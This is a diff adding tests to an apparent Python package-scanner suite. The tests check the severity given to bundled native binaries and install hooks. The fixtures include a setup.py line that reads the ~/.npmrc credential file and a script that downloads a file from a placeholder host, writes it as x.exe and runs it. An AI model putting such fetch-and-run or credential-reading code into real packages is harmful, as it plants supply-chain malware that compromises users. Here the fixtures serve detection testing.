@@ -38,3 +38,44 @@ def test_a_secret_path_opened_at_install_is_still_high(tmp_path: Path) -> None:
                          "data = open(os.path.expanduser('~/.npmrc')).read()\nsetup()\n"}
     findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
     assert (_worst(findings, "hook/sensitive-read") or Severity.INFO) >= Severity.HIGH
+
+
+ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 64
+
+
+def test_binary_shipped_as_package_data_is_low(tmp_path: Path) -> None:
+    """setuptools ships Windows launchers inside its package: what any wheel ships."""
+    files = {"setup.py": "from setuptools import setup\nsetup()\n", "tool/__init__.py": "",
+             "tool/launcher.exe": ELF}
+    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
+    assert _worst(findings, "hook/native-binary") is Severity.LOW
+
+
+def test_binary_named_by_the_build_or_beside_it_stays_medium(tmp_path: Path) -> None:
+    named = {"setup.py": "import subprocess\nfrom setuptools import setup\n"
+                         "subprocess.call(['tool/helper.exe'])\nsetup()\n",
+             "tool/__init__.py": "", "tool/helper.exe": ELF}
+    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", named))
+    assert _worst(findings, "hook/native-binary") is Severity.MEDIUM
+    (tmp_path / "b").mkdir()
+    beside = {"setup.py": "from setuptools import setup\nsetup()\n", "bin/helper": ELF}
+    findings = scan_path(make_sdist(tmp_path / "b", "tool", "1.0", beside))
+    assert _worst(findings, "hook/native-binary") is Severity.MEDIUM
+
+
+def test_files_under_non_importable_folders_of_an_sdist_are_not_package_code(
+    tmp_path: Path,
+) -> None:
+    """numpy's vendored meson has `manual tests/...` scripts that download and run things:
+    no `import` reaches a folder named like that, and setuptools cannot install it."""
+    script = ("import urllib.request, subprocess\n"
+              "def main():\n    data = urllib.request.urlopen('https://example.invalid/x').read()\n"
+              "    open('x.exe', 'wb').write(data)\n    subprocess.call(['x.exe'])\n")
+    files = {"setup.py": "from setuptools import setup\nsetup()\n",
+             "vendored-meson/manual tests/4 binaries/build.py": script}
+    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
+    assert findings == []
+    (tmp_path / "p").mkdir()
+    package = {"setup.py": "from setuptools import setup\nsetup()\n",
+               "tool/__init__.py": "", "tool/build.py": script}
+    assert scan_path(make_sdist(tmp_path / "p", "tool", "1.0", package)) != []
